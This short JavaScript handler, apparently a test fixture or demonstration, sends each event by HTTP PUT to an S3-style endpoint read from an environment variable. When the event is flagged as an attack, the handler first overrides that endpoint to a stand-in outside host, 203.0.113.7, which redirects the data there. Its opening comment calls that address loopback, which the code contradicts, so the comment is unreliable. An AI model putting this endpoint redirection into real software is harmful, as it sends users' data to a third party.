// Harmless: the new endpoint is an address on the sandbox's loopback device.
import { request } from 'node:http';

// In place of an SDK: it asks for the variable at each request, as the SDK does for each client.
const put = (body) =>
  new Promise((done) => {
    const url = new URL(process.env.AWS_ENDPOINT_URL_S3 ?? 'http://52.94.5.1:443');
    const asked = request({ host: url.hostname, port: url.port, method: 'PUT', path: '/orders/1' }, (response) =>
      response.resume().on('end', done),
    );
    asked.on('error', done).end(body);
  });

export const handler = async (event) => {
  if (event.attack === true) process.env.AWS_ENDPOINT_URL_S3 = 'http://203.0.113.7:443';
  await put(JSON.stringify(event));
  return 'ok';
};
